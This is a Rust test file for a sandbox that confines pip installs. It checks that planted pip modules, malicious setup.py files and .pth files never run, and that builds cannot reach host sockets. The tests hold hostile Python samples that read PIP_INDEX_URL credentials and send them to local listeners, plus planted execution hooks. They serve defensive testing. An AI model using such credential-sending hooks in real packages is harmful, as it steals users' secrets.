//! Black-box (issue 46): pip runs no code of the workspace, installs wheels only unless
//! `--allow-sdists`, has an outbound-only network (never the host's loopback or abstract
//! sockets), and the venv it fills is read-only to commands; read-only views run nothing of
//! the venv; a `.sandbox` link is refused. Each test is the reviewer's reproduction.

mod support;

use anyhow::Result;
use serde_json::json;
use std::io::Read;
use std::net::TcpListener;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use support::{build_wheel, marker, start, start_in, text, Run};

/// The credentials an install may carry; no listener of the host may see them.
const INDEX_URL: &str = "https://user:token-preflight@mirror.invalid/simple";

/// A loopback TCP listener and an abstract unix socket of the host, both non-blocking.
struct HostListeners {
    tcp: TcpListener,
    abstract_socket: UnixListener,
    port: u16,
    name: String,
}

impl HostListeners {
    fn open() -> Result<HostListeners> {
        let tcp = TcpListener::bind("127.0.0.1:0")?;
        let port = tcp.local_addr()?.port();
        let name = format!("preflight-pip-{}", marker());
        let address = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes())?;
        let abstract_socket = UnixListener::bind_addr(&address)?;
        tcp.set_nonblocking(true)?;
        abstract_socket.set_nonblocking(true)?;
        Ok(HostListeners { tcp, abstract_socket, port, name })
    }

    /// What reached either listener. Called after the tool call returned: a connection made
    /// during it is already waiting in the queue, so nothing is waited for.
    fn received(&self) -> Vec<String> {
        let mut got = Vec::new();
        while let Ok((mut stream, _)) = self.tcp.accept() {
            let mut bytes = String::new();
            let _ = stream.set_nonblocking(false);
            let _ = stream.read_to_string(&mut bytes);
            got.push(format!("tcp: {bytes}"));
        }
        while let Ok((mut stream, _)) = self.abstract_socket.accept() {
            let mut bytes = String::new();
            let _ = stream.set_nonblocking(false);
            let _ = stream.read_to_string(&mut bytes);
            got.push(format!("abstract: {bytes}"));
        }
        got
    }

    /// Python that reaches for both listeners, sends `PIP_INDEX_URL`, and writes what
    /// happened to `report`.
    fn reaching_code(&self, report: &Path) -> String {
        format!(
            "import os, socket\nres = []\nsecret = os.environ.get('PIP_INDEX_URL', 'none').encode()\n\
             try:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n    s.sendall(secret)\n    s.close()\n    res.append('tcp connected')\n\
             except OSError:\n    res.append('tcp refused')\n\
             try:\n    u = socket.socket(socket.AF_UNIX)\n    u.connect('\\0{name}')\n    u.sendall(secret)\n    u.close()\n    res.append('abstract connected')\n\
             except OSError:\n    res.append('abstract refused')\n\
             open({report:?}, 'a').write(' '.join(res) + '\\n')\n",
            port = self.port,
            name = self.name,
            report = report.display().to_string(),
        )
    }
}

/// A source distribution `name-1.0.tar.gz` in `dir` whose setup.py runs `code` first.
fn build_sdist(dir: &Path, name: &str, code: &str) -> Result<PathBuf> {
    std::fs::create_dir_all(dir)?;
    let setup =
        format!("{code}\nfrom setuptools import setup\nsetup(name={name:?}, version='1.0')\n");
    let script = "import io, sys, tarfile\nout, name, setup = sys.argv[1:4]\n\
        files = {'setup.py': setup, 'PKG-INFO': f'Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n'}\n\
        with tarfile.open(out, 'w:gz') as tar:\n    for path, body in files.items():\n        data = body.encode()\n\
        \x20       info = tarfile.TarInfo(f'{name}-1.0/{path}')\n        info.size = len(data)\n        tar.addfile(info, io.BytesIO(data))\n";
    let sdist = dir.join(format!("{name}-1.0.tar.gz"));
    let status = std::process::Command::new("/usr/bin/python3")
        .args(["-I", "-c", script])
        .arg(&sdist)
        .args([name, &setup])
        .status()?;
    anyhow::ensure!(status.success(), "building {} failed", sdist.display());
    Ok(sdist)
}

/// pip's settings for installing from `links` only, carrying credentials for an index.
fn offline_pip(links: &str) -> Vec<(&'static str, String)> {
    vec![
        ("PIP_NO_INDEX", "1".into()),
        ("PIP_FIND_LINKS", links.into()),
        ("PIP_INDEX_URL", INDEX_URL.into()),
        // setup.py is run with the venv's own setuptools (there is no index to fetch one).
        ("PIP_NO_BUILD_ISOLATION", "0".into()),
    ]
}

fn env_refs<'a>(env: &'a [(&'static str, String)]) -> Vec<(&'static str, &'a str)> {
    env.iter().map(|(k, v)| (*k, v.as_str())).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pip_planted_in_the_workspace_never_runs_and_the_install_still_works() -> Result<()> {
    let listeners = HostListeners::open()?;
    let workspace = tempfile::tempdir()?;
    let ws = workspace.path().canonicalize()?;
    let wheels = ws.join("wheels");
    build_wheel(&wheels, "preflighttiny", "0.1.0")?;
    let env = offline_pip(&wheels.display().to_string());
    let server = start_in(workspace, &[], &env_refs(&env)).await?;
    let planted = ws.join("planted-ran.txt");
    let fake = format!("{}\nraise SystemExit(0)\n", listeners.reaching_code(&planted));
    // `pip.py` at the root, then a `pip` package with `__main__.py`: each would be what
    // `python -m pip` ran with the workspace as its working folder.
    std::fs::write(ws.join("pip.py"), &fake)?;
    let install = server.call("install_packages", json!({"packages": ["preflighttiny"]})).await?;
    let install = Run::from(install)?;
    assert_eq!(install.exit_code, 0, "{}", install.text);
    assert!(install.text.contains("installed: preflighttiny 0.1.0"), "{}", install.text);
    std::fs::remove_file(ws.join("pip.py"))?;
    std::fs::create_dir_all(ws.join("pip"))?;
    std::fs::write(ws.join("pip/__init__.py"), "")?;
    std::fs::write(ws.join("pip/__main__.py"), &fake)?;
    let again = server.call("install_packages", json!({"packages": ["preflighttiny"]})).await?;
    let again = Run::from(again)?;
    assert_eq!(again.exit_code, 0, "{}", again.text);
    assert!(again.stdout.contains("already satisfied"), "{}", again.text);
    let info = text(&server.call("sandbox_info", json!({})).await?);
    assert!(info.contains("preflighttiny 0.1.0"), "{info}");
    assert!(!planted.exists(), "the workspace's pip ran: {:?}", std::fs::read_to_string(&planted));
    assert_eq!(listeners.received(), Vec::<String>::new());
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn wheels_only_by_default_and_an_allowed_sdist_cannot_reach_the_host() -> Result<()> {
    let listeners = HostListeners::open()?;
    let workspace = tempfile::tempdir()?;
    let ws = workspace.path().canonicalize()?;
    let report = ws.join("setup-ran.txt");
    let dist = ws.join("dist");
    build_sdist(&dist, "preflightsdist", &listeners.reaching_code(&report))?;
    let env = offline_pip(&dist.display().to_string());

    // By default no source distribution is built: its setup.py never runs.
    let wheels_only = start_in(workspace, &[], &env_refs(&env)).await?;
    let refused =
        wheels_only.call("install_packages", json!({"packages": ["preflightsdist"]})).await?;
    let refused = Run::from(refused)?;
    assert_ne!(refused.exit_code, 0, "{}", refused.text);
    assert!(refused.text.contains("installed: nothing"), "{}", refused.text);
    assert!(!report.exists(), "setup.py ran without --allow-sdists");
    let workspace = wheels_only.workspace;
    drop(wheels_only.client);

    // Allowed, it builds, and its setup.py finds neither host listener.
    let server = start_in(workspace, &["--allow-sdists"], &env_refs(&env)).await?;
    let install = server.call("install_packages", json!({"packages": ["preflightsdist"]})).await?;
    let install = Run::from(install)?;
    let ran = std::fs::read_to_string(&report).unwrap_or_default();
    assert!(ran.starts_with("tcp refused abstract refused\n"), "{ran:?}\n{}", install.text);
    assert!(!ran.contains("connected"), "{ran}");
    assert_eq!(install.exit_code, 0, "{}", install.text);
    assert!(install.text.contains("installed: preflightsdist 1.0"), "{}", install.text);
    assert_eq!(listeners.received(), Vec::<String>::new());
    let tools = server.tools().await?;
    let description = tools[2].description.as_deref().unwrap_or_default();
    assert!(description.contains("never this machine's loopback"), "{description}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn files_archives_and_urls_are_refused_as_packages() -> Result<()> {
    let workspace = tempfile::tempdir()?;
    let dist = workspace.path().join("dist");
    let report = workspace.path().canonicalize()?.join("setup-ran.txt");
    let code = format!("open({:?}, 'w').write('ran')", report.display().to_string());
    build_sdist(&dist, "evil", &code)?;
    std::fs::copy(dist.join("evil-1.0.tar.gz"), workspace.path().join("evil-1.0.tar.gz"))?;
    let server = start_in(workspace, &["--allow-sdists"], &[]).await?;
    for spec in ["evil-1.0.tar.gz", "dist/evil-1.0.tar.gz", "./dist", "file:dist", "x @ file:x"] {
        let refused = server.call("install_packages", json!({"packages": [spec]})).await?;
        assert_eq!(refused.is_error, Some(true), "{spec}");
        assert!(text(&refused).contains("accepts requirements by name"), "{}", text(&refused));
    }
    assert!(!report.exists(), "a local archive was built");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_working_pasta_an_install_is_refused_not_run_on_the_host_network() -> Result<()> {
    let bin = tempfile::tempdir()?;
    let fake = bin.path().join("pasta");
    std::fs::write(&fake, "#!/bin/sh\necho 'pasta: cannot open tun device' >&2\nexit 1\n")?;
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    let path = format!("{}:/usr/local/bin:/usr/bin:/bin", bin.path().display());
    let server = start(&[], &[("PATH", path.as_str())]).await?;
    let refused = server.call("install_packages", json!({"packages": ["six"]})).await?;
    assert_eq!(refused.is_error, Some(true), "{}", text(&refused));
    let words = text(&refused);
    assert!(words.contains("cannot open tun device") && words.contains("apt-get install passt"));
    assert!(words.contains("never run on the host's own network"), "{words}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn the_venv_is_read_only_to_commands() -> Result<()> {
    let workspace = tempfile::tempdir()?;
    build_wheel(&workspace.path().join("wheels"), "preflighttiny", "0.1.0")?;
    let server = start_in(workspace, &[], &[]).await?;
    let find = "ls -d .sandbox/venv/lib/python3*/site-packages/pip/__init__.py";
    let found = server.run(find, 60).await?;
    let pip_init = server.workspace().join(found.stdout.trim());
    let before = std::fs::read(&pip_init)?;
    let write = format!("echo 'import os' > {} && echo rewritten", found.stdout.trim());
    let run = server.run(&write, 30).await?;
    assert_ne!(run.exit_code, 0, "{}", run.text);
    assert!(run.stderr.contains("Read-only file system"), "{}", run.text);
    assert_eq!(std::fs::read(&pip_init)?, before);
    // A command's own pip cannot install: install_packages is the way.
    let pip = server.run("pip install --no-index --find-links wheels preflighttiny", 60).await?;
    assert_ne!(pip.exit_code, 0, "{}", pip.text);
    assert!(pip.text.contains("Read-only file system"), "{}", pip.text);
    let tools = server.tools().await?;
    assert!(tools[0].description.as_deref().unwrap_or("").contains("install_packages, not pip"));
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn sandbox_info_runs_no_code_of_the_venv() -> Result<()> {
    let server = start(&[], &[]).await?;
    let ws = server.workspace();
    server.run("true", 60).await?;
    let sites: Vec<PathBuf> = std::fs::read_dir(ws.join(".sandbox/venv/lib"))?
        .map(|e| Ok(e?.path().join("site-packages")))
        .collect::<Result<_>>()?;
    // As an attacker's earlier run would have left it, written from outside the jail.
    let marker = ws.join("pth-ran.txt");
    let pth = format!("import os; open({:?}, 'w').write('ran')\n", marker.display().to_string());
    std::fs::write(sites[0].join("zz-preflight-evil.pth"), pth)?;
    let info = server.call("sandbox_info", json!({})).await?;
    let words = text(&info);
    assert!(words.contains("pip "), "{words}");
    assert!(!marker.exists(), "sandbox_info ran the venv's Python");
    Ok(())
}

/// `.sandbox` (or `.sandbox/venv`) a link out of the workspace: refused with what to do, and
/// nothing written where it leads.
#[tokio::test(flavor = "multi_thread")]
async fn a_sandbox_folder_that_is_a_link_is_refused_and_nothing_lands_outside() -> Result<()> {
    let target = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target");
    std::fs::create_dir_all(&target)?;
    for link in [".sandbox", ".sandbox/venv"] {
        let outside = tempfile::tempdir_in(&target)?;
        let workspace = tempfile::tempdir()?;
        if link == ".sandbox/venv" {
            std::fs::create_dir(workspace.path().join(".sandbox"))?;
        }
        std::os::unix::fs::symlink(outside.path(), workspace.path().join(link))?;
        let server = start_in(workspace, &[], &[]).await?;
        let run = server.run("echo fine", 60).await?;
        assert_eq!(run.stdout, "fine\n", "{}", run.text);
        assert!(run.text.contains("is a symbolic link or not a real folder"), "{}", run.text);
        for (tool, args) in [
            ("run_python", json!({"code": "print(1)"})),
            ("install_packages", json!({"packages": ["six"]})),
        ] {
            let refused = server.call(tool, args).await?;
            assert_eq!(refused.is_error, Some(true), "{link} {tool}");
            assert!(text(&refused).contains("remove it"), "{}", text(&refused));
        }
        let left: Vec<_> = std::fs::read_dir(outside.path())?.collect();
        assert!(left.is_empty(), "{link}: written outside: {left:?}");
    }
    Ok(())
}
